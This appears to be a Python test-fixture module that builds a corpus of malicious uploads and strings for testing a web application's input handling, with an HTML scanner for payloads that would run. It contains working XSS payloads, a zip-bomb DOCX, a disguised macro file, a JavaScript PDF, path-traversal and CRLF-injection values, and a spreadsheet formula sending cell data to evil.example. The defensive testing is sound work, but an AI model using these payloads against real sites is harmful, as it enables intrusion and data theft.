"""The bad-input corpus: files and strings that have broken web applications.

Every payload that could run carries the marker 1337, so a check can tell our
payload from the page's own markup.
"""

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.factories import docx_bytes

MARKER = "1337"
# What a payload of ours looks like once it lands: the marker alone also turns up in
# timestamps and random file names (a JSON-LD date with microseconds ...1337...).
PAYLOAD_CALL = f"alert({MARKER})"


def png_bytes(size=(40, 30)):
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, format="PNG")
    return out.getvalue()


def jpeg_bytes(size=(40, 30), exif=None):
    out = io.BytesIO()
    image = Image.new("RGB", size, (200, 30, 30))
    if exif is not None:
        image.save(out, format="JPEG", exif=exif)
    else:
        image.save(out, format="JPEG")
    return out.getvalue()


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def huge_png_header(width=20000, height=20000):
    """A PNG that claims 20000×20000 pixels (400 megapixels) in a few bytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"\x00")) + _chunk(b"IEND", b"")


def exif_with_html():
    exif = Image.Exif()
    exif[0x010E] = f'<script>alert({MARKER})</script><img src=x onerror=alert({MARKER})>'  # ImageDescription
    exif[0x013B] = f'"><svg onload=alert({MARKER})>'  # Artist
    return jpeg_bytes(exif=exif.tobytes())


def zip_bomb_docx():
    big = b"\x00" * (60 * 1024 * 1024)
    return docx_bytes(extra_parts={"word/media/padding.bin": big})


def many_entries_docx(count=10000):
    return docx_bytes(extra_parts={f"word/parts/p{i}.xml": "<x/>" for i in range(count)})


def docm_as_docx():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
            '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")
    return out.getvalue()


PDF_WITH_JS = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1337))>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
SVG_SCRIPT = f'<svg xmlns="http://www.w3.org/2000/svg"><script>alert({MARKER})</script></svg>'.encode()

# (case id, file name, content, must be refused)
FILE_CASES = [
    ("svg-as-png", "anh.png", SVG_SCRIPT, True),
    ("png-then-html", "anh.png", png_bytes() + f"<html><script>alert({MARKER})</script></html>".encode(), False),
    ("exif-html", "anh.jpg", exif_with_html(), False),
    ("php-jpg", "a.php.jpg", jpeg_bytes(), True),
    ("html-as-pdf", "van-ban.pdf", f"<html><script>alert({MARKER})</script>".encode(), True),
    ("pdf-header-html", "van-ban.pdf", b"%PDF-1.4\n<html><script>alert(1337)</script>", True),
    ("exe-as-docx", "van-ban.docx", b"MZ\x90\x00" + b"\x00" * 200, True),
    ("zip-bomb-docx", "van-ban.docx", zip_bomb_docx(), True),
    ("10000-entries-docx", "van-ban.docx", many_entries_docx(), True),
    ("docm-as-docx", "van-ban.docx", docm_as_docx(), True),
    ("pdf-with-javascript", "van-ban.pdf", PDF_WITH_JS, False),
    ("huge-pixels", "anh.png", huge_png_header(), True),
    ("50mb", "anh.jpg", b"\xff\xd8\xff" + b"\x00" * (50 * 1024 * 1024), True),
    ("name-with-markup", f'"><img src=x onerror=alert({MARKER})>.jpg', jpeg_bytes(), False),
    ("name-with-path", "../../../etc/cron.d/anh.jpg", jpeg_bytes(), False),
]

XSS = [
    f'<script>alert({MARKER})</script>',
    f'<img src=x onerror=alert({MARKER})>',
    f'<a href="javascript:alert({MARKER})">bấm</a>',
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert({MARKER})">bấm</a>',
    f'<a href="jav&#x09;ascript:alert({MARKER})">bấm</a>',
    f'<iframe srcdoc="<script>alert({MARKER})</script>"></iframe>',
    f'<svg><foreignObject><img src=x onerror=alert({MARKER})></foreignObject></svg>',
    f'<noscript><p title="</noscript><img src=x onerror=alert({MARKER})>">',
    f'<math><mtext><table><mglyph><style><img src=x onerror=alert({MARKER})>',
    f'"><svg/onload=alert({MARKER})>',
]
TEXT_CASES = [(f"xss-{i}", payload) for i, payload in enumerate(XSS)] + [
    ("nfd-vietnamese", "Tie\u0302\u0301ng Vie\u0323\u0302t co\u0301 da\u0302\u0301u"),
    ("zero-width-bidi", "Pha\u0301p\u200b lua\u0323\u0302t\u202e\u2066 abc\u200f"),
    ("spreadsheet-formula", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'),
    ("very-long", "Luật " * 20000),
]
EMAIL_CRLF = "victim@example.vn\r\nBcc: everyone@example.vn"


def dangerous_markup(html):
    """Places where a payload of ours would run in a browser: a list of findings."""
    from html.parser import HTMLParser

    findings = []

    class Finder(HTMLParser):
        in_script = False

        def handle_starttag(self, tag, attrs):
            self.in_script = tag == "script"
            if tag in {"foreignobject", "iframe"} and any(PAYLOAD_CALL in (v or "") for _, v in attrs):
                findings.append(f"<{tag}> with payload")
            for name, value in attrs:
                value = value or ""
                if name.startswith("on") and PAYLOAD_CALL in value:
                    findings.append(f"{tag}[{name}]")
                if name in {"href", "src", "action", "formaction", "xlink:href", "data"}:
                    compact = "".join(value.split()).lower()
                    if compact.startswith(("javascript:", "data:text/html", "vbscript:")):
                        findings.append(f"{tag}[{name}]={value[:40]}")
                if name == "srcdoc":
                    findings.append(f"{tag}[srcdoc]")

        def handle_data(self, data):
            if self.in_script and PAYLOAD_CALL in data:
                findings.append("<script> with payload")

        def handle_endtag(self, tag):
            if tag == "script":
                self.in_script = False

    Finder(convert_charrefs=True).feed(html)
    return findings
